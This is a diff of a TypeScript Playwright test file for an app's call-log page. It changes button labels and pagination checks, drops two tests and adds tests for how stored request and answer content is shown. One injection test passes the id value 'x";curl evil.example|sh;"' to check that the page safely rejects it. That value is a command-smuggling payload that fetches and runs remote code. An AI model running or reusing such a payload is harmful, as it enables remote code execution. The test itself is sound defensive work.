@@ -10,6 +10,8 @@ const { owner } = service.filled
 
 const record = (page: Page) => page.getByRole('region', { name: 'Signed record' })
 
+const content = (page: Page) => page.getByRole('region', { name: 'Request and answer' })
+
 const openFirst = async (page: Page): Promise<void> => {
   await page.locator('.calls .cover').first().click()
 }
@@ -39,7 +41,7 @@ describe('the calls', () => {
     await open(page, '/app/calls')
     await openFirst(page)
     await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
-    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read request' }).count()).toBe(0)
   })
 
   it('waits for the names of its keys, so that nothing jumps once they are there', async () => {
@@ -84,33 +86,6 @@ describe('the calls', () => {
     await page.getByRole('button', { name: `Save these ${count} (CSV)` }).waitFor()
   })
 
-  it('ask for no days that are in no order', async () => {
-    const page = await open(owner, '/app/calls')
-    await page.getByRole('button', { name: 'Last 30 days' }).click()
-    await page.getByLabel('From').fill('2026-11-20')
-    await page.getByLabel('To', { exact: true }).fill('2026-11-01')
-    await page.getByRole('button', { name: 'Apply' }).click()
-    await page.locator('input:invalid').first().waitFor()
-    expect(new URL(page.url()).search).toBe('')
-    await page.getByLabel('To', { exact: true }).fill('2026-11-20')
-    await page.getByRole('button', { name: 'Apply' }).click()
-    await expect.poll(() => new URL(page.url()).search).toBe('?from=2026-11-20&to=2026-11-20')
-  })
-
-  it('are found by a part of their model, and the search is one filter that can be taken away', async () => {
-    const page = await open(owner, '/app/calls')
-    await page.getByRole('searchbox').fill('HAIKU')
-    await page.getByRole('searchbox').press('Enter')
-    await expect
-      .poll(() => page.locator('.calls tbody tr:not(.day) td:nth-of-type(2)').allInnerTexts())
-      .toEqual(expect.arrayContaining(['claude-haiku-4-5']))
-    await settled(page)
-    const models = await page.locator('.calls tbody tr:not(.day) td:nth-of-type(2)').allInnerTexts()
-    expect(new Set(models)).toEqual(new Set(['claude-haiku-4-5']))
-    await page.getByRole('link', { name: 'remove the filter Search' }).click()
-    await expect.poll(() => new URL(page.url()).search).toBe('')
-  })
-
   it('opens the call of a record by its id, and no other for half of one', async () => {
     const page = await open(owner, '/app/calls')
     const address = (await page.locator('.calls .cover').last().getAttribute('href')) ?? ''
@@ -142,13 +117,13 @@ describe('the calls', () => {
     const page = await open(owner, '/app/calls?outcome=blocked')
     await openFirst(page)
     const drawer = page.getByRole('dialog')
-    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+ shown/)
+    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+/)
     await drawer.getByRole('button', { name: 'Newer call' }).press('Enter')
     await drawer.getByRole('button', { name: 'Older call' }).click()
-    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+ shown/)
+    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+/)
     await expect.poll(() => record(page).innerText()).toContain('signed as BLOCKED')
     await drawer.getByRole('button', { name: 'Newer call' }).click()
-    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+ shown/)
+    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+/)
   })
 
   it('hands its record to the verifier, which finds it valid by the keys of the service', async () => {
@@ -189,7 +164,7 @@ describe('the calls', () => {
     await page.goto('/app/calls?outcome=passed')
     await page.locator('.calls .cover').last().click()
     const drawer = page.getByRole('dialog')
-    const known = drawer.getByRole('region', { name: 'What it took' })
+    const known = drawer.getByRole('region', { name: 'Details' })
     const told = await known.innerText()
     expect(told).toMatch(/Answered by\s+\S/)
     // As a colleague has it a year later: the list has come to other days.
@@ -199,17 +174,30 @@ describe('the calls', () => {
     await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&from=2024-01-01&to=2024-01-02')
   })
 
-  it('says whether content was kept only once somebody asks to read it', async () => {
-    const page = await pageOf(owner, { provoked: refusedWith(404) })
-    let asked = 0
-    page.on('request', (request) => (asked += Number(request.url().includes('/compliance/content/'))))
+  it('says by the record alone that content was not kept, and asks for none', async () => {
+    const page = await pageOf(owner)
+    const asked = pathsOf(page)
     await open(page, '/app/calls')
     await openFirst(page)
-    const read = page.getByRole('button', { name: 'Read it, and have that written down' })
+    await expect.poll(() => content(page).innerText()).toContain('Not kept. Change that in Settings.')
+    await expect.poll(() => content(page).getByRole('button').count()).toBe(0)
+    expect(asked.filter((path) => path.includes('/compliance/content/'))).toEqual([])
+  })
+
+  it('reads kept content only once somebody asks for it', async () => {
+    const page = await pageOf(owner, { provoked: refusedWith(404) })
+    const asked = pathsOf(page)
+    await changeAnswers<{ settlement: { content: object } }>(page, /\/api\/calls\/[0-9a-f-]{36}$/, (body) => ({
+      ...body,
+      settlement: { ...body.settlement, content: { ...body.settlement.content, content: { sha256: '', bytes: 1 } } },
+    }))
+    await open(page, '/app/calls?outcome=passed')
+    await openFirst(page)
+    const read = page.getByRole('button', { name: 'Read request and answer' })
     await read.waitFor()
-    expect(asked).toBe(0)
+    expect(asked.filter((path) => path.includes('/compliance/content/'))).toEqual([])
     await read.click()
-    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('This call has no stored content')
+    await expect.poll(() => content(page).innerText()).toContain('This call has no stored content')
   })
 
   it('look on by themselves where a page of the log had nothing, and say what could not be read', async () => {
@@ -239,7 +227,7 @@ describe('the calls', () => {
     await page.goto(`/app/calls?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
     await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
     await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
-    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read request' }).count()).toBe(0)
   })
 
   it('goes on with the next part where these days have more leaves than one file', async () => {
